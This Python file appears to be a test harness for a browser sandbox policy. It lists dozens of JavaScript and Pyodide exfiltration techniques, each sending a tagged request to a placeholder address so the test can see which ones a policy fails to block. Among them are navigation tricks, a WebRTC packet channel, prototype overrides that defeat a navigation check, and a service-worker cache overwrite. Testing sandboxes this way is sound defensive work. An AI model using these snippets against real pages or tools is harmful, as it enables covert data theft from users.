"""Ways to get a word out of a page or a worker. Each is JavaScript in which OWN and OTHER are addresses.

Each attack asks for a path that ends in its own name, so that a server's log tells which one got through.
What a policy governs is in ANYWHERE, WORKER and PAGE; what none does, and the lock of a tool's page stops all the
same, is in BEYOND. What remains possible is in decisions/0004.
"""

ANYWHERE = {
    "fetch": "await fetch(URL)",
    "fetch-post": "await fetch(URL, { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true })",
    "xhr": "{ const x = new XMLHttpRequest(); x.open('GET', URL); x.send(); }",
    "xhr-sync": "{ const x = new XMLHttpRequest(); x.open('GET', URL, false); x.send(); }",
    "websocket": "new WebSocket(URL.replace('http', 'ws'))",
    "eventsource": "new EventSource(URL)",
    "import": "await import(URL)",
    "font": "await new FontFace('f', `url(${URL})`).load()",
    "worker": "new Worker(URL)",
    "module-worker": "new Worker(URL, { type: 'module' })",
    "blob-worker-importscripts": "new Worker(window_blob(`importScripts('${URL}')`))",
    "blob-worker-fetch": "new Worker(window_blob(`fetch('${URL}')`))",
    "blob-module-worker-import": "new Worker(window_blob(`import '${URL}'`), { type: 'module' })",
    "blob-worker-nested": "new Worker(window_blob(`new Worker('${URL}')`))",
    "function": "new Function('url', 'fetch(url)')(URL)",
    "cache": "await (await caches.open('c')).add(URL)",
}

WORKER = {
    **ANYWHERE,
    "importscripts": "importScripts(URL)",
}

PAGE = {
    **ANYWHERE,
    "beacon": "navigator.sendBeacon(URL, 'secret')",
    "image": "new Image().src = URL",
    "script": "add('script', { src: URL })",
    "module-script": "add('script', { type: 'module', src: URL })",
    "stylesheet": "add('link', { rel: 'stylesheet', href: URL })",
    "prefetch": "add('link', { rel: 'prefetch', href: URL })",
    "preload": "add('link', { rel: 'preload', as: 'fetch', crossOrigin: '', href: URL })",
    "modulepreload": "add('link', { rel: 'modulepreload', href: URL })",
    "manifest": "add('link', { rel: 'manifest', href: URL })",
    "icon": "add('link', { rel: 'icon', href: URL })",
    "iframe": "add('iframe', { src: URL })",
    "object": "add('object', { data: URL })",
    "embed": "add('embed', { src: URL })",
    "video": "add('video', { src: URL, preload: 'auto', poster: URL })",
    "audio": "add('audio', { src: URL, preload: 'auto' })",
    "style-image": "document.body.style.backgroundImage = `url(${URL})`",
    "style-import": "add('style', { textContent: `@import '${URL}';` })",
    "form-get": "submit('get')",
    "form-post": "submit('post')",
    "ping": "add('a', { href: '#x', ping: URL }).click()",
    "shared-worker": "new SharedWorker(URL)",
    "service-worker": "await navigator.serviceWorker.register(URL)",
    "worklet": "await new AudioContext().audioWorklet.addModule(URL)",
    "svg": "document.body.append(Object.assign(document.createElementNS('http://www.w3.org/2000/svg', 'image'), {}))"
    ", document.body.lastChild.setAttribute('href', URL)",
    "frame-fetch": "add('iframe', {}).contentWindow.fetch(URL)",
    "frame-srcdoc": "add('iframe', { srcdoc: `<img src='${URL}'>` })",
}

FRAME = "add('iframe', {}).contentWindow"
CALL = "call(new (%s).RTCPeerConnection({ iceServers: [{ urls: STUN }] }))"

# URL answers with no page, so that whoever goes there stays; NAME is an address whose host alone tells; STUN takes UDP.
BEYOND = {
    # leaving without being seen to leave
    "download": "add('a', { href: URL, download: 'x' }).click()",
    "download-apart": "Object.assign(document.createElement('a'), { href: URL, download: 'x' }).click()",
    "download-dispatched": "add('a', { href: URL, download: 'x' }).dispatchEvent(new MouseEvent('click'))",
    "link": "add('a', { href: URL }).click()",
    "link-of-a-picture": "{ const a = document.createElementNS('http://www.w3.org/2000/svg', 'a');"
    " a.setAttribute('href', URL); document.body.append(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));"
    " document.body.lastChild.append(a); a.dispatchEvent(new MouseEvent('click')); }",
    "location": "location.href = URL",
    "location-replace": "location.replace(URL)",
    "navigation": "navigation.navigate(URL)",
    "open-self": "open(URL, '_self')",
    "refresh": "document.head.append(Object.assign(document.createElement('meta'),"
    " { httpEquiv: 'refresh', content: `0;url=${URL}` }))",
    "refresh-of-another": "{ const m = document.querySelector('meta'); m.httpEquiv = 'refresh';"
    " m.content = `0;url=${URL}`; }",
    "reload-elsewhere": "history.pushState(null, '', URL); if (location.href === URL) location.reload()",
    "form-here": "add('form', { action: URL }).submit()",
    "page-of-its-own": "location.href = URL_.createObjectURL(new Blob([`<meta http-equiv=refresh"
    " content='0;url=${URL}'>`], { type: 'text/html' }))",
    "after-replacing-what-is-used": "Reflect.defineProperty(NavigateEvent.prototype, 'userInitiated',"
    " { get: () => true }); Event.prototype.preventDefault = () => {}; Reflect.apply = () => undefined;"
    " String.prototype.split = () => ['tel:']; location.href = URL",
    # names of hosts
    "frame-name": "add('iframe', { src: NAME })",
    "form-name": "add('form', { action: NAME, method: 'post' }).submit()",
    "location-name": "location.href = NAME",
    # packets
    "webrtc": CALL % "window",
    "webrtc-of-a-frame": CALL % FRAME,
    "webrtc-of-a-frame-ns": CALL % "add_ns('iframe').contentWindow",
    "webrtc-of-an-indexed-frame": "add('iframe', {}); " + CALL % "window[0]",
    "webrtc-of-markup": "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); " + CALL % "window[0]",
    "webrtc-of-inner-markup": "document.body.innerHTML = '<iframe></iframe>'; " + CALL % "window[0]",
    "webrtc-of-a-parsed-frame": "document.body.append(new DOMParser().parseFromString('<iframe></iframe>',"
    " 'text/html').body.firstChild); " + CALL % "window[0]",
    "webrtc-of-a-custom-frame": "customElements.define('x-y', class extends HTMLIFrameElement {},"
    " { extends: 'iframe' }); document.body.append(new (customElements.get('x-y'))()); " + CALL % "window[0]",
    "webrtc-of-an-object": "add('object', { type: 'text/html', data: 'about:blank' }); await rest(); "
    + CALL % "window[0]",
    # what stays on the device, for whoever comes next
    "cookie": "document.cookie = 'secret=1; max-age=99999'",
    "local": "localStorage.setItem('secret', '1')",
    "database": "await new Promise((done) => { indexedDB.open('secret').onsuccess = done; })",
    "cache-put": "await (await caches.open('secret')).put('/secret', new Response('secret'))",
    "storage-of-a-frame": FRAME + ".localStorage.setItem('secret', '1')",
    "caches-of-a-frame": f"await (await {FRAME}.caches.open('secret')).put('/secret', new Response('secret'))",
}

# From a page of a site of which this device keeps a copy. PLACE is the copy's scope, SECRET a word in a path.
COPY = {
    "message": "navigator.serviceWorker.controller.postMessage("
    "{ type: 'CACHE_URLS', payload: { urlsToCache: [PLACE + SECRET] } })",
    "preload-header": "{ const r = await navigator.serviceWorker.ready; await r.navigationPreload.enable();"
    " await r.navigationPreload.setHeaderValue(SECRET); }",
    "update": "await (await navigator.serviceWorker.ready).update()",
    "register": "await navigator.serviceWorker.register(`${PLACE}copy.js?${SECRET}`)",
    "write": "for (const name of await caches.keys()) for (const key of await (await caches.open(name)).keys())"
    " if (/\\/parents\\/tonight\\//.test(key.url)) await (await caches.open(name)).put(key,"
    " new Response(`<h1>${SECRET}</h1>`, { headers: { 'Content-Type': 'text/html' } }))",
}

# Out of Python, in the runtime. URL is an address.
PYTHON = {
    "the js module": "import js\njs.fetch(URL)",
    "XMLHttpRequest": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL, False)\nx.send()",
    "pyfetch": "from pyodide.http import pyfetch\npyfetch(URL)",
    "open_url": "from pyodide.http import open_url\nopen_url(URL)",
    "urllib": "import urllib.request\nurllib.request.urlopen(URL)",
    "socket": "import socket\nsocket.create_connection(('localhost', int(URL.split(':')[2].split('/')[0])), 2)",
    "_socket": "import _socket\ns = _socket.socket()\ns.connect(('127.0.0.1', int(URL.split(':')[2].split('/')[0])))",
    "run_js": "from pyodide.code import run_js\nrun_js(f'fetch({URL!r})')",
    "constructor": "import pyodide_js\npyodide_js.runPython.constructor(f'fetch({URL!r})')()",
    "loadPackage": "import pyodide_js\npyodide_js.loadPackage(URL)",
    "runtime's own global": "import pyodide_js\npyodide_js._module.API.config.jsglobals.fetch(URL)",
    "emscripten": "import ctypes\nctypes.CDLL(None).emscripten_run_script(f'fetch({URL!r})'.encode())",
}

# What is asked of other machines by the browser itself, or kept by it, where no attack here could see it arrive.
TAKEN = """() => [
  ...["PublicKeyCredential", "PaymentRequest", "PresentationRequest", "speechSynthesis", "Notification", "WebTransport",
    "SharedWorker", "Worker", "BroadcastChannel", "cookieStore", "documentPictureInPicture", "queryLocalFonts",
    "webkitSpeechRecognition"].map((name) => [name, name in window]),
  ...["credentials", "serviceWorker", "storage", "storageBuckets", "locks", "usb", "hid", "serial", "bluetooth",
    "mediaDevices", "geolocation", "presentation", "share"].map((name) => [name, name in navigator]),
].filter(([, there]) => there).map(([name]) => name)"""

# What takes Trusted Types out of a page's policy, as in a browser that has none.
TRUSTED_TYPES = "; require-trusted-types-for 'script'; trusted-types cse-worker"

# All of them, by where they are tried from.
ALL = {"page": PAGE, "worker": WORKER, "beyond": BEYOND, "copy": COPY, "python": PYTHON}

# What only the `navigate` event can hold: a browser without it lets a hostile script of ours out by these.
LEAVING = {
    *("download", "download-apart", "download-dispatched", "link", "link-of-a-picture"),
    *("location", "location-replace", "location-name", "navigation", "open-self"),
    *("refresh-of-another", "reload-elsewhere", "page-of-its-own", "after-replacing-what-is-used"),
}

HELPERS = """
const window_blob = (text) => URL_.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const add = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
};
const rest = () => new Promise((done) => setTimeout(done, 100));
const add_ns = (tag) => {
  const element = document.createElementNS('http://www.w3.org/1999/xhtml', tag);
  document.body.append(element);
  return element;
};
const call = async (connection) => {
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
};
const submit = (method) => {
  const frame = add('iframe', { name: `f${Math.random()}` });
  const form = add('form', { method, action: URL, target: frame.name });
  form.append(Object.assign(document.createElement('input'), { name: 'secret', value: 'x' }));
  form.submit();
};
"""


def alone(attack: str, **given: str) -> str:
    """JavaScript that tries one attack, with the constants it is `given`, and tells no one if it fails."""
    constants = " ".join(f"const {name} = {value!r};" for name, value in given.items())
    # The page's own URL goes by another name, as in `script`.
    return f"{{ const URL_ = window.URL; {{ {constants} {HELPERS} try {{ {attack}; }} catch {{}} }} }}"


def script(attacks: dict[str, str], targets: list[str], mark: str) -> str:
    """JavaScript that tries every attack on every target and stops for none that fails. `mark` is put into
    each path before the attack's name. Attacks still under way after a second are left alone."""
    tries = [
        f"await attempt(async () => {{ const URL = {target + mark + '-' + name!r}; {HELPERS} {attack}; }});"
        for target in targets
        for name, attack in attacks.items()
    ]
    return (
        "{ const URL_ = URL; const attempt = async (attack) => {"
        " try { await Promise.race([attack(), new Promise((done) => setTimeout(done, 300))]); } catch {} };"
        + "\n".join(tries)
        + "}"
    )


def module(attacks: dict[str, str]) -> str:
    """A script of a page that keeps each attack as a function of it, in `attacks`: it takes the constants that the
    attack needs. `attempt(name, given)` tries one, for as long as `script` would."""
    takes = "{ URL, NAME, STUN, PLACE, SECRET }"
    kept = "\n".join(f"{name!r}: async ({takes}) => {{ {HELPERS} {attack}; }}," for name, attack in attacks.items())
    return f"""const URL_ = URL;
globalThis.attacks = {{ {kept} }};
globalThis.attempt = async (name, given) => {{
  try {{ await Promise.race([attacks[name](given), new Promise((done) => setTimeout(done, 300))]); }} catch {{}}
}};"""
